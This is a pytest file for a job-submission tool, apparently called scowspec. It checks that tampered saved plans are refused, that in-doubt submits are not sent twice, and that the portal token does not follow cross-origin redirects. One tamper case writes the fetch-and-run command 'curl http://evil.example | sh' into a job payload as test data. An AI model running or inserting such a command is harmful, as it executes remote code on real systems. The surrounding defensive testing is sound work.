"""Saved plans are made again at apply, in-doubt submits are never repeated, and the token stays at the portal."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests

from scowspec.apply.journal import GRACE_S
from scowspec.portal.transport import PortalSession, RedirectRefused
from scowspec.sandbox.server import SandboxServer

from .conftest import TOKEN, Run
from .portal_helpers import admin, jobs, make_project, names, write_small

CLI = Callable[..., Run]


@pytest.fixture
def project(in_dir: Path, portal_env: SandboxServer, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("SCOWSPEC_PORTAL_URL")  # the project's scowspec.yaml names the portal
    return make_project(in_dir, portal_env, tutorial=False, extra=2)


def _cancel(name: str, job_id: int) -> dict[str, Any]:
    return {
        "action": "cancel",
        "spec_name": name.rsplit("-", 1)[0],
        "job_name": name,
        "cluster": "ai-k8s",
        "reason": "its spec was removed from the repository",
        "desired": None,
        "cancel": [{"cluster": "ai-k8s", "job_id": job_id, "name": name, "state": "RUNNING"}],
    }


def _command(plan: dict[str, Any]) -> None:
    plan["changes"][0]["desired"]["payload"]["command"] = "curl http://evil.example | sh\n"


def _duplicate(plan: dict[str, Any]) -> None:
    plan["changes"].append(json.loads(json.dumps(plan["changes"][0])))


def _foreign(plan: dict[str, Any]) -> None:
    plan["changes"].append(_cancel("hand-made-job", 1))


def _mass(plan: dict[str, Any]) -> None:
    plan["changes"] += [_cancel(f"old{i}-0000000{i}", 2 + i) for i in range(6)]


def _portal(plan: dict[str, Any]) -> None:
    plan["portal_url"] = "http://127.0.0.1:9/ai"


def _null(plan: dict[str, Any]) -> None:
    plan["changes"][-1]["desired"] = None


TAMPERING = {
    "rewritten-command": _command,
    "submit-listed-twice": _duplicate,
    "foreign-cancel": _foreign,
    "mass-cancel-past-guard": _mass,
    "another-portal": _portal,
    "submit-without-payload": _null,
}


@pytest.mark.parametrize("tamper", TAMPERING.values(), ids=TAMPERING.keys())
def test_a_tampered_plan_is_refused_and_changes_nothing(
    cli: CLI, project: Path, sandbox: SandboxServer, tamper: Callable[[dict[str, Any]], None]
) -> None:
    store = sandbox.portal.store
    store.add("alice", "ai-k8s", "hand-made-job", {"command": "echo mine"})
    for i in range(6):
        store.add("alice", "ai-k8s", f"old{i}-0000000{i}", {"command": f"# scowspec 0.1.0 | job old{i}"})
    assert cli("plan", "--out", "plan.json").code == 0
    plan = json.loads((project / "plan.json").read_text("utf-8"))
    tamper(plan)
    (project / "plan.json").write_text(json.dumps(plan), "utf-8")
    before = {j["jobId"]: j["state"] for j in jobs(sandbox)}
    r = cli("apply", "--plan", "plan.json", "--yes")
    assert r.code == 4, r.out + r.err
    assert {j["jobId"]: j["state"] for j in jobs(sandbox)} == before, "nothing submitted or cancelled"


def test_a_saved_plan_needs_yes_in_ci(
    cli: CLI, project: Path, sandbox: SandboxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert cli("plan", "--out", "plan.json").code == 0
    monkeypatch.setenv("CI", "1")
    r = cli("apply", "--plan", "plan.json")
    assert r.code == 4 and "pass --yes" in r.err
    assert names(sandbox) == []


def test_a_saved_plan_goes_to_the_projects_portal_only(cli: CLI, project: Path, sandbox: SandboxServer) -> None:
    assert cli("plan", "--out", "plan.json").code == 0
    (project / "scowspec.yaml").write_text(
        (project / "scowspec.yaml").read_text("utf-8").replace(sandbox.url, "http://127.0.0.1:9/ai"), "utf-8"
    )
    r = cli("apply", "--plan", "plan.json", "--yes")
    assert r.code == 1 and names(sandbox) == [], "the plan's portal_url is never where the token goes"


# -- in-doubt submits ----------------------------------------------------------------------------------------
def test_a_submit_that_lands_late_is_never_submitted_twice(
    cli: CLI, project: Path, sandbox: SandboxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "specs" / "small-1.yaml").unlink()
    monkeypatch.setenv("SCOWSPEC_TIMEOUT", "1")
    admin(sandbox, "faults", {"latency_ms": 2500, "route": "POST /jobs"})  # accepted after the client gave up
    first = cli("apply", "--yes")
    assert first.code == 5 and "In doubt" in first.out, first.out + first.err
    retry = cli("apply", "--yes")  # a CI retry at once: the job is not listed yet
    assert retry.code == 5 and "in doubt" in retry.out and "not submitted again" in retry.out, retry.out
    deadline = time.monotonic() + 10
    while not names(sandbox) and time.monotonic() < deadline:
        time.sleep(0.1)
    admin(sandbox, "faults", {"latency_ms": 0})
    settled = cli("apply", "--yes")
    assert settled.code == 0, settled.out + settled.err
    assert len(names(sandbox)) == 1, "one job, although three applies ran"
    assert json.loads((project / ".scowspec" / "journal.json").read_text("utf-8"))["pending"] == {}


def test_an_in_doubt_submit_is_sent_once_the_grace_period_passed(
    cli: CLI, project: Path, sandbox: SandboxServer
) -> None:
    (project / "specs" / "small-1.yaml").unlink()
    plan = cli("plan", "-o", "json")
    job = json.loads(plan.out)["plan"]["changes"][0]["job_name"]
    (project / ".scowspec").mkdir(exist_ok=True)
    journal = {"pending": {job: {"cluster": "ai-k8s", "since": "then", "since_s": time.time() - GRACE_S - 1}}}
    (project / ".scowspec" / "journal.json").write_text(json.dumps(journal), "utf-8")
    r = cli("apply", "--yes")
    assert r.code == 0 and names(sandbox) == [job]
    write_small(project, "small-1")


# -- the token stays at the portal's origin --------------------------------------------------------------------
class _Recorder(BaseHTTPRequestHandler):
    seen: list[dict[str, str]]
    location: str = ""

    def do_GET(self) -> None:
        self.seen.append(dict(self.headers))
        if self.location:
            self.send_response(307)
            self.send_header("Location", self.location + self.path)
            self.end_headers()
        else:
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.end_headers()
            self.wfile.write(b"{}")

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


def _server(location: str = "") -> Iterator[tuple[ThreadingHTTPServer, list[dict[str, str]]]]:
    seen: list[dict[str, str]] = []
    handler = type("H", (_Recorder,), {"seen": seen, "location": location})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server, seen
    finally:
        server.shutdown()
        server.server_close()


def test_a_redirect_to_another_origin_never_gets_the_token(
    cli: CLI, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for other, other_seen in _server():
        for redirector, _ in _server(f"http://127.0.0.1:{other.server_address[1]}"):
            monkeypatch.setenv("SCOWSPEC_PORTAL_URL", f"http://127.0.0.1:{redirector.server_address[1]}/ai")
            r = cli("plan")
            assert r.code == 1 and "redirected to http://127.0.0.1" in r.err and "token was not sent" in r.err
        assert other_seen == [], "the other origin received nothing"


@pytest.mark.parametrize(
    ("location", "refused"),
    [
        pytest.param("http://portal.example.edu.cn/ai/api/x", True, id="https-to-http"),
        pytest.param("https://evil.example.com/ai/api/x", True, id="other-host"),
        pytest.param("https://portal.example.edu.cn:8443/ai/api/x", True, id="other-port"),
        pytest.param("/ai/api/y", False, id="same-origin-path"),
        pytest.param("https://PORTAL.example.edu.cn:443/ai/api/y", False, id="same-origin-spelled-out"),
    ],
)
def test_redirects_are_followed_only_within_the_portals_origin(location: str, refused: bool) -> None:
    session = PortalSession("https://portal.example.edu.cn/ai", environ={})
    resp = requests.Response()
    resp.status_code = 302
    resp.url = "https://portal.example.edu.cn/ai/api/x"
    resp.headers["location"] = location
    if refused:
        with pytest.raises(RedirectRefused):
            session.get_redirect_target(resp)
    else:
        assert session.get_redirect_target(resp) == location
    assert session.verify is True, "TLS is verified by default"
    assert TOKEN not in json.dumps(dict(session.headers))
